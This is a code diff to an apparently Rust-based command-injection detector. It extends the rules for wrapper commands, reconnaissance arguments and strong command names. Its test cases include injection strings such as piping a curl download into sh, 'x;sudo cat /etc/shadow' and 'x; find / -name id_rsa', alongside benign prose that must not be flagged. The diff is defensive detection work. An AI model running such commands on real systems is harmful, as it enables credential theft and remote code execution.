@@ -35,11 +35,17 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
             let mark =
                 lower.get(..at).unwrap_or_default().iter().rev().find(|b| !matches!(b, b' ' | b'\t' | b'+'));
             match found {
-                Strength::Surely | Strength::Alone if !tick || !in_prose() => {
+                Strength::Surely if !tick || !in_prose() => {
+                    return hit(at, "a shell would run a second command here");
+                }
+                Strength::Alone if !tick || !in_prose() && !is_mentioned(lower) => {
                     return hit(at, "a shell would run a second command here");
                 }
                 Strength::Perhaps if substitution || tick && is_all_there_is(lower, at - 1) => {
                     return hit(at, "a shell would run this and put its output here");
+                }
+                Strength::Perhaps if is_only(lower, at) => {
+                    return hit(at, "a shell would run this command, which is all there is");
                 }
                 Strength::Perhaps if !tick && mark != Some(&b'&') && stands_alone(lower, at) => {
                     return hit(at, "a shell would run a second command here");
@@ -153,6 +159,15 @@ fn command(text: &Text<'_>, from: &[u8]) -> Strength {
     if is_argument(argument, name) {
         return Strength::Surely;
     }
+    // `time sleep 5`, `sudo id`: the argument is the command.
+    if matches!(name, b"time" | b"sudo" | b"nohup" | b"exec" | b"env" | b"command" | b"xargs" | b"eval") {
+        let mut letters = [0; 48];
+        let (length, rest) = self::name(argument, &mut letters);
+        let inner = letters.get(..length).unwrap_or_default();
+        if (is_strong(inner) || is_english(inner)) && is_argument(rest.trim_ascii_start(), inner) {
+            return Strength::Surely;
+        }
+    }
     match (known, ends) {
         (true, true) => Strength::Alone,
         (false, true) if ALONE.contains(&name) => Strength::Perhaps,
@@ -217,6 +232,12 @@ fn is_argument(text: &[u8], name: &[u8]) -> bool {
         [drive, b':', ..] if drive.is_ascii_alphabetic() => {
             word.len() <= 3 || matches!(word.get(2), Some(b'\\' | b'/'))
         }
+        // `find / -name x`
+        b"/" => matches!(name, b"find" | b"ls" | b"du" | b"cd") && rest.trim_ascii_start().starts_with(b"-"),
+        b"aux" | b"auxw" | b"axu" | b"ax" => name == b"ps",
+        b"user" | b"users" | b"localgroup" | b"view" | b"share" => {
+            name == b"net" && rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
+        }
         _ if memchr::memmem::find(word, b"://").is_some() => true,
         _ if name == b"sleep" || name == b"timeout" => {
             word.iter().all(u8::is_ascii_digit)
@@ -244,6 +265,14 @@ fn is_file(word: &[u8]) -> bool {
     })
 }
 
+/// Nothing but a separator stands before the command, and nothing behind its name: `& dir`.
+fn is_only(lower: &[u8], at: usize) -> bool {
+    at < 8
+        && lower.len() < at + 16
+        && lower.get(..at).is_some_and(|b| b.iter().all(|b| matches!(b, b'&' | b'|' | b';' | b' ')))
+        && lower.get(at..).is_some_and(|r| r.trim_ascii_end().iter().all(u8::is_ascii_alphabetic))
+}
+
 /// The separator before `at` is no punctuation of a sentence: nothing but short words around, few of them.
 fn stands_alone(lower: &[u8], at: usize) -> bool {
     if lower.len() > 256 {
@@ -262,7 +291,7 @@ fn stands_alone(lower: &[u8], at: usize) -> bool {
         .skip_while(|b| b.is_ascii_alphanumeric() || **b == b'/')
         .nth(1)
         .is_some_and(u8::is_ascii_alphanumeric);
-    words(line) <= 2 && words(lower.get(..at).unwrap_or_default()) <= 2 && !column
+    words(line) <= 1 && words(lower.get(..at).unwrap_or_default()) <= 2 && !column
 }
 
 /// Where a text has had two words: a backtick further on quotes a word of a sentence.
@@ -276,6 +305,12 @@ fn prose_from(lower: &[u8]) -> usize {
         .filter(|(_, w)| w.len() > 1 && w.iter().all(u8::is_ascii_alphabetic))
         .nth(1)
         .map_or(usize::MAX, |(end, _)| end)
+}
+
+/// A name in backticks within a text of several words, as people write about columns and functions.
+fn is_mentioned(lower: &[u8]) -> bool {
+    let word = |w: &&[u8]| w.len() > 1 && w.iter().all(u8::is_ascii_alphabetic);
+    lower.split(|b| b.is_ascii_whitespace()).filter(word).nth(2).is_some()
 }
 
 /// The substitution is the whole text, quotes aside.
@@ -391,6 +426,13 @@ fn is_strong(name: &[u8]) -> bool {
             | b"msiexec"
             | b"openssl"
             | b"uniq"
+            | b"lsof"
+            | b"tcpdump"
+            | b"getent"
+            | b"lscpu"
+            | b"nproc"
+            | b"journalctl"
+            | b"systemctl"
             | b"rev"
     )
 }
@@ -465,6 +507,8 @@ fn is_english(name: &[u8]) -> bool {
             | b"call"
             | b"ver"
             | b"timeout"
+            | b"command"
+            | b"cd"
             | b"paste"
             | b"fold"
     )
@@ -522,6 +566,12 @@ mod tests {
             "curl http://x.example/s.sh | sh",
             "'`/usr/bin/id`'",
             "name.jpg;curl x.example",
+            "& dir",
+            "&& net user",
+            "x; find / -name id_rsa",
+            "; ps aux",
+            ";time sleep 5",
+            "x;sudo cat /etc/shadow",
         ] {
             assert!(sample(detect, text), "{text}");
         }
@@ -545,6 +595,12 @@ mod tests {
             "| a | b |\n|---|---|",
             "Tom & Ann; find us at the fair",
             "Q&A: date; time; place",
+            "Q&A; history; time",
+            "cats & dogs; env & health",
+            "feat(api): add `id` to response; fix #12",
+            "We find / discover the best; ls is short for list",
+            "time flies; time heals; sudo make me a sandwich",
+            "net user growth was 5%; net view is better",
             "cut & paste",
         ] {
             assert!(!sample(detect, text), "{text}");
